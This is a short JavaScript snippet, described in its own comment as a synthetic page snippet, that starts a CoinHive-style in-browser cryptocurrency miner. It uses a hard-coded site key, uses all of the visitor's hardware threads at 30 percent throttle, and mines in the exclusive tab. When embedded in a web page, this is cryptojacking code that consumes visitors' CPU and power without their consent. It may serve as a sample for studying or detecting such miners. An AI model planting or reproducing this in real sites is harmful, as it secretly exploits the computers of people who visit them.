// Synthetic page snippet that starts a CoinHive-style miner (see coinhive-style-kit.js).
var miner = new CoinHive.Anonymous('SK8xq1Jm3pL0aZtYv9cWnR2bD4eF6gHk', {
  threads: navigator.hardwareConcurrency,
  throttle: 0.3,
  forceASMJS: false
});
miner.start(CoinHive.IF_EXCLUSIVE_TAB);
